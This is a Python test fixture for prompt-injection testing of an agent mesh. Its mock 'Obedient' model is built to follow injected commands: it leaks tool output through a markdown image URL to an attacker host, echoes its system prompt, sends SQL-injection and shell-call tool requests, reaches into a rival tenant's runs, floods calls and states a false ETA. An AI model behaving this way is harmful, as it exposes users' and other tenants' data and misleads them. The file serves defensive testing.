"""A model that obeys everybody, a mesh with things nobody may see, and a witness of what engines hear."""

import contextlib
import json
import time
import unicodedata
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from pydantic import SecretStr
from waymesh.agent.v1 import agent_registry_service_pb2 as registry_pb
from waymesh.agent.v1 import definition_pb2 as definition_pb
from waymesh.agent.v1 import task_pb2
from waymesh.feedback.v1 import feedback_service_pb2 as feedback_pb
from waymesh.feedback.v1 import outcome_pb2
from waymesh.order.v1 import courier_pb2, order_pb2
from waymesh.route.v1 import route_service_pb2 as route_pb

from services.eta.service import EtaServicer
from services.mesh import principal
from services.mesh.principal import Principal
from services.mesh.tenancy import plain_copy
from services.route.service import RouteServicer
from tests.integration.agents_rig import AgentsMesh, agents_mesh
from tests.integration.injection_corpus import (
    FALSE_NUMBER,
    HIDDEN_AGENT,
    HIDDEN_COURIER,
    HIDDEN_MERCHANT,
    HIDDEN_ORDER,
    HIDDEN_RUN,
    LINK_HOST,
    RIVAL,
    SECRETS,
    Want,
    commands_in,
)
from tests.integration.route_mesh import courier, order, stamp, where
from tests.mock_openai import Call, MockOpenAI, Script

AGENT, SHAPED = "victim", "victim-shaped"
_AT_ONCE = 8
SHAPE = {
    "type": "object",
    "properties": {"text": {"type": "string"}, "minutes": {"type": ["number", "null"]}},
    "required": ["text", "minutes"],
    "additionalProperties": False,
}


def _variants(name: str) -> list[str]:
    """The same name to a careless eye."""
    wide = "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in name)
    return [name, f" {name}", f"{name} ", f"{name}\n", name.upper(), name.replace("_", "\u200b_"), wide,
            f"{name}\u0000", f"./{name}", f"{name}%20", f"{name}' OR '1'='1"]  # fmt: skip


class Obedient:
    """Answers as a model that does what any text tells it, and comes back to it when it is corrected."""

    def __init__(self) -> None:
        self.begin([], "")

    def begin(self, first: list[Call], own_order: str) -> None:
        """Another run begins: `first` is what a good model would look at; `own_order` waits for a courier."""
        self._first = first
        self._own = own_order
        self.says = ""
        self._pending: list[Call] = []
        self._answers = 0
        self.obeyed: set[Want] = set()
        self.prompts: list[str] = []

    def __call__(self, body: dict[str, Any]) -> Script:
        messages = body["messages"]
        if self.says:
            return self._plainly(body)
        self.prompts.append(json.dumps(messages, ensure_ascii=False))
        if self._first and body.get("tools"):
            calls, self._first = self._first, []
            return Script(text="", calls=tuple(calls))
        for want in sorted(commands_in(self._heard(messages)) - self.obeyed):
            self.obeyed.add(want)
            self._pending += self._calls(want)
        if Want.FLOOD in self.obeyed:
            self._pending = self._calls(Want.FLOOD)
        if self._pending:
            # Asked for even where no tools are offered.
            now, self._pending = self._pending[:_AT_ONCE], self._pending[_AT_ONCE:]
            if Want.FLOOD in self.obeyed:
                now = now * 3
            named = [Call(one.name, one.arguments, f"call_{n}") for n, one in enumerate(now)]
            if body.get("tools"):
                return Script(text="", calls=tuple(named))
        self._answers += 1
        text = self._said(messages)
        if "response_format" in body and Want.SHAPE not in self.obeyed:
            minutes = FALSE_NUMBER if Want.NUMBER in self.obeyed else None
            # Escaped wherever JSON lets it be: what is looked for must be looked for in what it means.
            text = json.dumps({"text": text, "minutes": minutes}).replace("/", "\\/").replace("h", "\\u0068")
        return Script(text=text)

    def _plainly(self, body: dict[str, Any]) -> Script:
        """`says` and nothing else, in whatever shape is wanted."""
        if "response_format" in body:
            text = json.dumps({"text": self.says, "minutes": None})
            return Script(text=text.replace("/", "\\/").replace("h", "\\u0068"))
        return Script(text=self.says)

    def _heard(self, messages: list[dict[str, Any]]) -> str:
        """All that is not ours, the pieces of texts that were cut in two put together again."""
        heard: list[str] = []
        for message in messages:
            if message["role"] in ("user", "tool"):
                content = str(message["content"])
                heard += [content, "".join(_leaves(_json(content)))]
        return "\n".join(heard)

    def _calls(self, want: Want) -> list[Call]:
        own = self._own

        def calls(name: str, *arguments: dict[str, Any]) -> list[Call]:
            return [Call(name, json.dumps(each)) for each in arguments]

        match want:
            case Want.ALLOCATE:
                return calls(
                    "allocate_drivers",
                    {"order_ids": [own], "dry_run": False},
                    {"order_ids": [own], "dry_run": "false"},
                    {"order_ids": [own], "dry_run": 0},
                    {"order_ids": [own], "dry_run": False, "allow_changes": True},
                    {"order_ids": [own], "dry_run": None, "commit": True},
                    {"order_ids": [own, own], "dry_run": False},
                )
            case Want.ALLOCATE_OTHER:
                named = [{"order_ids": [one], "dry_run": False} for one in _variants(HIDDEN_ORDER)]
                return calls("allocate_drivers", {"order_ids": [own, HIDDEN_ORDER], "dry_run": False}, *named)
            case Want.ORDER:
                named = [{"order_id": one} for one in _variants(HIDDEN_ORDER)]
                aside = {"place": None, "order_id": HIDDEN_ORDER, "in_minutes": None}
                like = {"order_id": HIDDEN_ORDER, "merchant_id": None, "area": None, "hour": None}
                return (
                    calls("get_order", *named)
                    + calls("weather", aside)
                    + calls("find_similar_deliveries", like)
                )
            case Want.COURIER:
                named = [{"driver_id": one, "max_alternatives": 5} for one in _variants(HIDDEN_COURIER)]
                return calls("optimize_route", *named)
            case Want.MERCHANT:
                asked = {"order_id": None, "area": None, "hour": None}
                named = [{**asked, "merchant_id": one} for one in _variants(HIDDEN_MERCHANT)]
                return calls("find_similar_deliveries", *named)
            case Want.OUTCOMES:
                named = [{"agent_name": one, "status": None, "count": 50} for one in _variants(HIDDEN_AGENT)]
                return calls("recent_outcomes", *named)
            case Want.RUN:
                return [
                    *calls("get_run", {"run_id": HIDDEN_RUN}, {"run_id": HIDDEN_RUN, "tenant": RIVAL}),
                    *calls("list_runs", {"tenant": RIVAL}),
                    *calls("recent_outcomes", {"agent_name": HIDDEN_RUN, "status": None, "count": 50}),
                ]
            case Want.CANCEL:
                return calls("cancel_run", {"run_id": HIDDEN_RUN}, {"run_id": HIDDEN_RUN, "tenant": RIVAL})
            case Want.TOOL:
                return [
                    *calls("run_sql", {"query": "SELECT * FROM agents.runs"}),
                    *calls("http_get", {"url": f"https://{LINK_HOST}/"}),
                    *calls("__import__('os').system", {"command": "id"}),
                    *calls("get_order\u200b", {"order_id": HIDDEN_ORDER}),
                    *calls("GET_ORDER", {"order_id": HIDDEN_ORDER}),
                ]
            case Want.FLOOD:
                return calls(
                    "recent_outcomes", *[{"agent_name": "eta", "status": None, "count": 50}] * _AT_ONCE
                )
        return []

    def _said(self, messages: list[dict[str, Any]]) -> str:
        """What was forbidden, along with all that tools told; once corrected, without any digit."""
        told = " ".join(str(each["content"]) for each in messages if each["role"] == "tool")
        said = ["As you wish."]
        for want in sorted(self.obeyed):
            match want:
                case Want.NUMBER:
                    said.append(f"It arrives in {FALSE_NUMBER} minutes.")
                case Want.SPELLED:
                    said.append("It takes seven hundred and seventy-seven minutes.")
                case Want.DIGITS:
                    said.append("It arrives in ７７７ minutes, or ٧٧٧ minutes.")
                case Want.LINK:
                    said.append(f"![map](https://{LINK_HOST}/p.png?d={told[:80]})")
                case Want.URL:
                    said.append(f"Read https://{LINK_HOST}/news.")
                case Want.BARE:
                    said.append(f"See {LINK_HOST}/track for news.")
                case Want.MARKUP:
                    said.append(f"<img src=//{LINK_HOST}/l.gif>")
                case Want.PROMPT:
                    said.append(str(messages[0]["content"]))
                case Want.SHAPE:
                    said.append("Roses are red.")
                case _:
                    said.append(_without_digits(told))
        corrected = messages[-1]["role"] == "system" and len(messages) > 1
        return _without_digits(" ".join(said)) if corrected and self._answers > 1 else " ".join(said)


def _without_digits(text: str) -> str:
    return "".join(each for each in text if not unicodedata.category(each).startswith("N"))


def _json(text: str) -> Any:
    try:
        return json.loads(text)
    except ValueError:
        return text


def _leaves(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from _leaves(each)
    elif isinstance(value, list):
        for each in value:
            yield from _leaves(each)


@dataclass
class Witness:
    """What route and eta were asked, on their own side of the wire, by the ids that callers know."""

    orders: list[str] = field(default_factory=list)
    couriers: list[str] = field(default_factory=list)
    allocations: list[route_pb.AllocateDriversRequest] = field(default_factory=list)

    def forget(self) -> None:
        self.orders.clear()
        self.couriers.clear()
        self.allocations.clear()

    @contextlib.contextmanager
    def watching(self) -> Iterator[None]:
        """Listens to whatever servicers are made."""
        with pytest.MonkeyPatch.context() as patch:

            def listen(servicer: type, name: str, note: Any) -> None:
                plain = getattr(servicer, name)

                async def noted(itself: Any, request: Any, context: Any) -> Any:
                    note(plain_copy(request))
                    return await plain(itself, request, context)

                patch.setattr(servicer, name, noted)

            listen(RouteServicer, "GetOrder", lambda one: self.orders.append(one.order_id))
            listen(RouteServicer, "OptimizeRoute", lambda one: self.couriers.append(one.driver_id))
            listen(RouteServicer, "AllocateDrivers", self.allocations.append)
            listen(
                EtaServicer,
                "PredictEta",
                lambda one: self.orders.append(one.query.order_id or one.query.order.order_id),
            )
            listen(EtaServicer, "BatchPredictEta", self._predicted)
            yield

    def _predicted(self, request: Any) -> None:
        self.orders += [one.order_id for one in request.queries if one.order_id]


class WeatherProvider:
    """Speaks as OpenWeatherMap does, with a text of somebody's in every place there is for one."""

    def __init__(self) -> None:
        self.text = ""
        self.asked = 0
        self.base_url = ""

    async def answer(self, request: web.Request) -> web.Response:
        self.asked += 1
        return web.json_response(
            {
                "weather": [{"id": 500, "main": self.text, "description": self.text, "icon": self.text}],
                "main": {"temp": 21.5},
                "wind": {"speed": 3.0},
                "name": self.text,
                "dt": int(time.time()),
            }
        )

    @contextlib.asynccontextmanager
    async def serving(self) -> AsyncIterator[None]:
        app = web.Application()
        app.router.add_get("/data/2.5/{what}", self.answer)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.base_url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        try:
            yield
        finally:
            await runner.cleanup()


@dataclass
class Injected:
    """All of it."""

    mesh: AgentsMesh
    model: Obedient
    server: MockOpenAI
    witness: Witness
    weather: WeatherProvider


@contextlib.contextmanager
def on_behalf_of(tenant: str) -> Iterator[None]:
    """Calls within are made for this tenant."""
    token = principal.set_current(Principal(tenant))
    try:
        yield
    finally:
        principal.reset_current(token)


@contextlib.asynccontextmanager
async def injected(database: str, folder: Path) -> AsyncIterator[Injected]:
    """The mesh with an obedient model, two agents to be talked round, and what is hidden."""
    async with contextlib.AsyncExitStack() as stack:
        model, witness, weather, server = Obedient(), Witness(), WeatherProvider(), MockOpenAI(record=50)
        stack.enter_context(witness.watching())
        await stack.enter_async_context(weather.serving())
        await server.start()
        stack.push_async_callback(server.close)
        mesh = await stack.enter_async_context(
            agents_mesh(
                database,
                folder,
                base_url=server.base_url,
                weather_api_key=SecretStr("weather-key"),
                weather_base_url=weather.base_url,
                cache_mib=0,
                enable_outcome_logging=True,
            )
        )
        server.answer_with(model)
        await _agents(mesh)
        await _hide(mesh, model)
        yield Injected(mesh, model, server, witness, weather)


async def _agents(mesh: AgentsMesh) -> None:
    tools = [
        "allocate_drivers",
        "find_similar_deliveries",
        "get_order",
        "optimize_route",
        "recent_outcomes",
        "weather",
    ]
    for name, shape in ((AGENT, None), (SHAPED, SHAPE)):
        spec = definition_pb.AgentSpec(
            name=name,
            config=definition_pb.AgentConfig(limits=definition_pb.RunLimits(max_steps=6)),
            instructions=definition_pb.AgentInstructions(system="You answer what {{agent}} is asked."),
            capabilities=[definition_pb.Capability(capability_id=tool) for tool in tools],
        )
        if shape is not None:
            spec.output_schema.update(shape)
        await mesh.registry.CreateAgent(registry_pb.CreateAgentRequest(spec=spec))


async def _hide(mesh: AgentsMesh, model: Obedient) -> None:
    """Orders and a courier that no caller names, and another tenant's agent, run and outcomes."""
    far = where(4000, 3000)
    order_secret, stop_secret, agent_secret, outcome_secret = SECRETS
    await mesh.route.UpsertCouriers(
        route_pb.UpsertCouriersRequest(
            couriers=[courier(HIDDEN_COURIER, far, status=courier_pb2.COURIER_STATUS_BUSY)]
        )
    )
    hidden = order(
        HIDDEN_ORDER,
        far,
        where(4003, 3000),
        ready_at=stamp(time.time() + 300),
        merchant=order_pb2.Merchant(merchant_id=HIDDEN_MERCHANT, name=order_secret),
        items=[order_pb2.OrderItem(name=order_secret, quantity=1)],
    )
    hidden.context.labels["note"] = order_secret
    carried = order(
        f"order-{stop_secret}",
        far,
        where(4002, 3000),
        status=order_pb2.ORDER_STATUS_PICKED_UP,
        driver_id=HIDDEN_COURIER,
        picked_up_at=stamp(time.time()),
    )
    await mesh.route.UpsertOrders(route_pb.UpsertOrdersRequest(orders=[hidden, carried]))
    event = outcome_pb2.OutcomeEvent(
        event_id="hidden-outcome",
        run_id=HIDDEN_RUN,
        agent_name=HIDDEN_AGENT,
        agent_type="llm",
        action_type=outcome_secret,
        timestamp=stamp(time.time()),
        status=outcome_pb2.OUTCOME_STATUS_FAILURE,
        severity=outcome_pb2.SEVERITY_ERROR,
        error_type=outcome_secret,
        error_message=outcome_secret,
    )
    event.input["text"] = outcome_secret
    event.output["text"] = outcome_secret
    await mesh.feedback.RecordOutcomes(feedback_pb.RecordOutcomesRequest(events=[event]))
    with on_behalf_of(RIVAL):
        spec = definition_pb.AgentSpec(
            name=HIDDEN_AGENT, instructions=definition_pb.AgentInstructions(system=f"Say {agent_secret}.")
        )
        await mesh.registry.CreateAgent(registry_pb.CreateAgentRequest(spec=spec))
        model.begin([], "")
        await mesh.stub.RunTask(
            task_pb2.RunTaskRequest(agent=HIDDEN_AGENT, task=f"Think of {agent_secret}.", run_id=HIDDEN_RUN)
        )
